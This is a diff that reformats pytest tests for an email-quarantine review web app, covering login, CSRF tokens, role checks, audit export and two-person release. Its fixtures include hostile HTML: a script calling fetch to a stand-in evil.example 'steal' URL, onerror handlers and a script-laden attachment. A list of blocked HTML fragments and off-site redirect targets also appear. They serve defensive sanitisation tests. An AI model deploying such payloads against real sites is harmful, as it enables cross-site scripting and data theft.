@@ -14,8 +14,18 @@ from gateway.web import create_app, hash_password
 from .conftest import PARENT, STAFF, mail
 
 PASSWORD = "a long enough password"
-PHONE = StoredFinding("personal-phone", "personal_phone", "quarantine", "07700 900999", "body", "new", False,
-                      "mobile", "ring me on 07700 900999 tonight", "+447700900999")
+PHONE = StoredFinding(
+    "personal-phone",
+    "personal_phone",
+    "quarantine",
+    "07700 900999",
+    "body",
+    "new",
+    False,
+    "mobile",
+    "ring me on 07700 900999 tonight",
+    "+447700900999",
+)
 EVIL_HTML = """<p>Hello <b>there</b></p>
 <script>fetch('http://evil.example/steal')</script>
 <img src="http://evil.example/pixel.png" onerror="alert(1)">
@@ -28,26 +38,46 @@ EVIL_HTML = """<p>Hello <b>there</b></p>
 @pytest.fixture
 def web(config, store_url):
     store = Store(store_url)
-    for name, role, email in (("dsl", "reviewer", "dsl@heartofengland.example"), ("head", "admin", ""),
-                              ("governor", "auditor", ""), ("tess", "reviewer", STAFF)):
+    for name, role, email in (
+        ("dsl", "reviewer", "dsl@heartofengland.example"),
+        ("head", "admin", ""),
+        ("governor", "auditor", ""),
+        ("tess", "reviewer", STAFF),
+    ):
         store.put_user(name, role=role, email=email, password_hash=hash_password(PASSWORD))
     copies = {}
     for subject, html in (("Trip", None), ("Evil", EVIL_HTML)):
-        raw = mail("Ring me on 07700 900999 tonight.", subject=subject, html=html,
-                   attachments=[("notes.html", "application", "octet-stream", b"<script>alert(4)</script>")] if html else ())
-        accepted = store.accept(Envelope(STAFF, (PARENT,)), raw, [NewCopy(PARENT, "parent", "held",
-                                "rules: personal-phone", (PHONE,))], subject=subject)
+        raw = mail(
+            "Ring me on 07700 900999 tonight.",
+            subject=subject,
+            html=html,
+            attachments=[
+                ("notes.html", "application", "octet-stream", b"<script>alert(4)</script>")
+            ]
+            if html
+            else (),
+        )
+        accepted = store.accept(
+            Envelope(STAFF, (PARENT,)),
+            raw,
+            [NewCopy(PARENT, "parent", "held", "rules: personal-phone", (PHONE,))],
+            subject=subject,
+        )
         copies[subject] = accepted.copy_ids[PARENT]
     app = create_app(config, store, secret="test-secret")
     yield app, store, copies
     store.close()
 
 
-def login(app, name: str, password: str = PASSWORD, base_url: str = "http://testserver") -> TestClient:
+def login(
+    app, name: str, password: str = PASSWORD, base_url: str = "http://testserver"
+) -> TestClient:
     client = TestClient(app, follow_redirects=False, base_url=base_url)
     page = client.get("/login")
     csrf = re.search(r'name="csrf" value="([^"]+)"', page.text).group(1)
-    response = client.post("/login", data={"name": name, "password": password, "csrf": csrf, "next": "/queue"})
+    response = client.post(
+        "/login", data={"name": name, "password": password, "csrf": csrf, "next": "/queue"}
+    )
     client.last_login = response
     return client
 
@@ -59,10 +89,18 @@ def csrf_of(client: TestClient, path: str) -> str:
 def test_every_page_needs_a_login(web):
     app, _, copies = web
     client = TestClient(app, follow_redirects=False)
-    for path in ("/queue", f"/copy/{copies['Trip']}", f"/copy/{copies['Trip']}/raw", "/audit", "/audit.csv",
-                 f"/copy/{copies['Evil']}/attachment/4"):
+    for path in (
+        "/queue",
+        f"/copy/{copies['Trip']}",
+        f"/copy/{copies['Trip']}/raw",
+        "/audit",
+        "/audit.csv",
+        f"/copy/{copies['Evil']}/attachment/4",
+    ):
         response = client.get(path)
-        assert response.status_code == 303 and response.headers["location"].startswith("/login"), path
+        assert response.status_code == 303 and response.headers["location"].startswith("/login"), (
+            path
+        )
     assert client.post(f"/copy/{copies['Trip']}/release", data={"reason": "x"}).status_code == 303
 
 
@@ -120,7 +158,11 @@ def test_release_needs_the_csrf_token_and_a_reason(web):
     done = client.post(path, data={"reason": "agreed trip mobile", "csrf": token, "scope": "copy"})
     assert done.status_code == 303
     copy = store.copy(copies["Trip"])
-    assert (copy.status, copy.decided_by, copy.decision_reason) == ("released", "dsl", "agreed trip mobile")
+    assert (copy.status, copy.decided_by, copy.decision_reason) == (
+        "released",
+        "dsl",
+        "agreed trip mobile",
+    )
     assert "released" in client.get(done.headers["location"]).text  # the flash message
 
 
@@ -128,8 +170,10 @@ def test_reject_with_a_note_to_the_sender(web):
     app, store, copies = web
     client = login(app, "head")
     token = csrf_of(client, f"/copy/{copies['Trip']}")
-    client.post(f"/copy/{copies['Trip']}/reject", data={"reason": "personal mobile", "csrf": token,
-                                                         "tell_sender": "Use the trip phone."})
+    client.post(
+        f"/copy/{copies['Trip']}/reject",
+        data={"reason": "personal mobile", "csrf": token, "tell_sender": "Use the trip phone."},
+    )
     assert store.copy(copies["Trip"]).status == "rejected"
     [notice] = [c for c in store.copies(kind="notice") if c.recipient == STAFF]
     assert b"Use the trip phone." in store.message(notice.message_id).raw
@@ -141,7 +185,12 @@ def test_roles_are_enforced_on_the_server(web):
     assert auditor.get(f"/copy/{copies['Trip']}").status_code == 200
     assert "Release" not in auditor.get(f"/copy/{copies['Trip']}").text
     token = csrf_of(auditor, "/queue")
-    assert auditor.post(f"/copy/{copies['Trip']}/release", data={"reason": "x", "csrf": token}).status_code == 403
+    assert (
+        auditor.post(
+            f"/copy/{copies['Trip']}/release", data={"reason": "x", "csrf": token}
+        ).status_code
+        == 403
+    )
     assert auditor.get("/audit").status_code == 200
     reviewer = login(app, "dsl")
     assert reviewer.get("/audit").status_code == 403
@@ -154,7 +203,9 @@ def test_a_reviewer_cannot_decide_on_mail_they_sent(web):
     page = client.get(f"/copy/{copies['Trip']}")
     assert "another reviewer must decide" in page.text
     token = csrf_of(client, "/queue")
-    response = client.post(f"/copy/{copies['Trip']}/release", data={"reason": "mine", "csrf": token})
+    response = client.post(
+        f"/copy/{copies['Trip']}/release", data={"reason": "mine", "csrf": token}
+    )
     assert response.status_code == 403
     assert store.copy(copies["Trip"]).status == "held"
 
@@ -165,8 +216,18 @@ def test_hostile_html_is_shown_harmless(web):
     page = client.get(f"/copy/{copies['Evil']}")
     html_view = page.text.split("HTML part", 1)[1]
     assert "<b>there</b>" in html_view  # harmless structure survives
-    for bad in ("<script", "onerror", "onclick", "javascript:", "evil.example/pixel", "<img", "<style",
-                "<form", "url(http", "evil.example/post"):
+    for bad in (
+        "<script",
+        "onerror",
+        "onclick",
+        "javascript:",
+        "evil.example/pixel",
+        "<img",
+        "<style",
+        "<form",
+        "url(http",
+        "evil.example/post",
+    ):
         assert bad not in html_view, bad
     [link] = re.findall(r'href="(/copy/\d+/attachment/\d+)"', page.text)
     attachment = client.get(link)
@@ -183,7 +244,11 @@ def test_audit_is_filterable_and_exports_csv(web):
     exported = client.get("/audit.csv?action=viewed")
     assert exported.headers["content-type"].startswith("text/csv")
     lines = exported.text.strip().splitlines()
-    assert lines[0] == "at,actor,action,message,copy,detail" and len(lines) == 2 and ",dsl,viewed," in lines[1]
+    assert (
+        lines[0] == "at,actor,action,message,copy,detail"
+        and len(lines) == 2
+        and ",dsl,viewed," in lines[1]
+    )
 
 
 def test_release_and_approve_the_number_in_one_step(web):
@@ -192,18 +257,38 @@ def test_release_and_approve_the_number_in_one_step(web):
     page = client.get(f"/copy/{copies['Trip']}")
     assert "Release and approve" in page.text
     token = csrf_of(client, f"/copy/{copies['Trip']}")
-    bad = client.post(f"/copy/{copies['Trip']}/approve", data={"csrf": token, "finding": "0", "reason": "trip",
-                                                              "approve_scope": "sender", "until": "2099-01-01"})
+    bad = client.post(
+        f"/copy/{copies['Trip']}/approve",
+        data={
+            "csrf": token,
+            "finding": "0",
+            "reason": "trip",
+            "approve_scope": "sender",
+            "until": "2099-01-01",
+        },
+    )
     assert bad.status_code == 400 and store.exceptions() == []  # an expiry within a year, please
     from datetime import date, timedelta
 
     until = (date.today() + timedelta(days=20)).isoformat()
-    done = client.post(f"/copy/{copies['Trip']}/approve", data={"csrf": token, "finding": "0", "reason": "trip mobile",
-                                                               "approve_scope": "sender", "until": until})
+    done = client.post(
+        f"/copy/{copies['Trip']}/approve",
+        data={
+            "csrf": token,
+            "finding": "0",
+            "reason": "trip mobile",
+            "approve_scope": "sender",
+            "until": until,
+        },
+    )
     assert done.status_code == 303
     [exception] = store.exceptions()
-    assert (exception["kind"], exception["value"], exception["senders"], exception["recipients"]) == (
-        "phone", "+447700900999", [STAFF], [])
+    assert (
+        exception["kind"],
+        exception["value"],
+        exception["senders"],
+        exception["recipients"],
+    ) == ("phone", "+447700900999", [STAFF], [])
     assert store.copy(copies["Trip"]).status == "released"
     actions = [e.action for e in store.audit_log(copies["Trip"])]
     assert "exception-added" in actions and "released" in actions
@@ -213,21 +298,40 @@ def test_two_person_release_for_chosen_categories(web, config):
     import dataclasses
 
     app, store, _ = web
-    secrecy = StoredFinding("dont-tell", "secrecy", "quarantine", "don't tell your mum", "body", "new", False,
-                            "phrase", "don't tell your mum about this")
-    copy_id = store.accept(Envelope(STAFF, (PARENT,)), mail("Don't tell your mum about this.", subject="Secret"),
-                           [NewCopy(PARENT, "parent", "held", "rules: dont-tell", (secrecy,))],
-                           subject="Secret").copy_ids[PARENT]
-    strict = dataclasses.replace(config, relay=dataclasses.replace(config.relay, two_person_categories=("secrecy",)))
+    secrecy = StoredFinding(
+        "dont-tell",
+        "secrecy",
+        "quarantine",
+        "don't tell your mum",
+        "body",
+        "new",
+        False,
+        "phrase",
+        "don't tell your mum about this",
+    )
+    copy_id = store.accept(
+        Envelope(STAFF, (PARENT,)),
+        mail("Don't tell your mum about this.", subject="Secret"),
+        [NewCopy(PARENT, "parent", "held", "rules: dont-tell", (secrecy,))],
+        subject="Secret",
+    ).copy_ids[PARENT]
+    strict = dataclasses.replace(
+        config, relay=dataclasses.replace(config.relay, two_person_categories=("secrecy",))
+    )
     app = create_app(strict, store, secret="s2")
     first = login(app, "dsl")
     token = csrf_of(first, f"/copy/{copy_id}")
     first.post(f"/copy/{copy_id}/release", data={"csrf": token, "reason": "fine", "scope": "copy"})
     assert store.copy(copy_id).status == "held"  # one approval is not enough
-    assert first.post(f"/copy/{copy_id}/release", data={"csrf": token, "reason": "again"}).status_code == 400
+    assert (
+        first.post(f"/copy/{copy_id}/release", data={"csrf": token, "reason": "again"}).status_code
+        == 400
+    )
     second = login(app, "head")
     token = csrf_of(second, f"/copy/{copy_id}")
-    second.post(f"/copy/{copy_id}/release", data={"csrf": token, "reason": "agreed", "scope": "copy"})
+    second.post(
+        f"/copy/{copy_id}/release", data={"csrf": token, "reason": "agreed", "scope": "copy"}
+    )
     copy = store.copy(copy_id)
     assert (copy.status, copy.decided_by) == ("released", "head")
     assert [e.actor for e in store.audit_log(copy_id, action="release-approved")] == ["dsl"]
@@ -237,13 +341,25 @@ def test_assign_a_held_copy_to_another_reviewer(web):
     app, store, copies = web
     client = login(app, "dsl")
     token = csrf_of(client, f"/copy/{copies['Trip']}")
-    assert client.post(f"/copy/{copies['Trip']}/assign", data={"csrf": token, "to": "governor"}).status_code == 400
-    assert client.post(f"/copy/{copies['Trip']}/assign", data={"csrf": token, "to": "head"}).status_code == 303
+    assert (
+        client.post(
+            f"/copy/{copies['Trip']}/assign", data={"csrf": token, "to": "governor"}
+        ).status_code
+        == 400
+    )
+    assert (
+        client.post(
+            f"/copy/{copies['Trip']}/assign", data={"csrf": token, "to": "head"}
+        ).status_code
+        == 303
+    )
     assert store.copy(copies["Trip"]).assigned_to == "head"
     head = login(app, "head")
     mine = head.get("/queue?assigned=me").text
     assert "Trip" in mine and "Evil" not in mine
-    assert [e.detail for e in store.audit_log(copies["Trip"], action="assigned")] == [{"to": "head"}]
+    assert [e.detail for e in store.audit_log(copies["Trip"], action="assigned")] == [
+        {"to": "head"}
+    ]
 
 
 @pytest.mark.parametrize("target", ["//evil.example/x", "/\\evil.example", "https://evil.example"])
@@ -251,5 +367,7 @@ def test_login_never_redirects_off_site(web, target):
     app, _, _ = web
     client = TestClient(app, follow_redirects=False)
     csrf = re.search(r'name="csrf" value="([^"]+)"', client.get("/login").text).group(1)
-    done = client.post("/login", data={"name": "dsl", "password": PASSWORD, "csrf": csrf, "next": target})
+    done = client.post(
+        "/login", data={"name": "dsl", "password": PASSWORD, "csrf": csrf, "next": target}
+    )
     assert done.status_code == 303 and done.headers["location"] == "/queue"
